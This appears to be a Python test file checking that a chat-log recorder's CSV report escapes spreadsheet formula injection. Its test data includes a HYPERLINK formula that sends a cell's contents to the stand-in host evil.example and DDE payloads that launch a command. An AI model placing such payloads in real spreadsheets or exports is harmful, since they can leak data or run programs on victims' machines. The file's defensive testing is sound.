"""A chat line written as a spreadsheet formula reaches the CSV report as text, never as a live formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from recorder.cli import cli
from recorder.home import Home

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看减免")',
    "-2000+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+86 95188 回电",
]
CHAT = "".join(f"2024-08-15 10:0{i} 客服：{text}\n" for i, text in enumerate(FORMULAS, start=1))
CHAT += "2024-08-15 10:09 我：好的，我20号之前还两千\n"


def test_formulas_in_chat_lines_are_text_in_the_csv_report(home: Home, tmp_path: Path):
    chat = tmp_path / "在线客服聊天记录_20240815_101500.txt"
    chat.write_text(CHAT, encoding="utf-8")
    runner = CliRunner()
    base = ["--home", str(home.root)]
    taken = runner.invoke(cli, [*base, "ingest", "--case", "网商贷", str(chat)])
    assert taken.exit_code == 0, taken.output
    out = tmp_path / "timeline.csv"
    result = runner.invoke(cli, [*base, "report", "--case", "网商贷", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    texts = [row[6] for row in rows[1:]]
    for formula in FORMULAS:
        assert "'" + formula in texts, texts  # shown as written, behind the quote that keeps it text
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(1, len(rows))]  # numbers stay numbers
    assert "好的，我20号之前还两千" in texts


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-5", "'-5"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("减免=1", "减免=1"), ("", ""), (None, ""), (-5, -5), (12.5, 12.5), (True, "True"),
])
def test_safe_cell(value, written):
    from reports.csv_safe import safe_cell

    assert safe_cell(value) == written
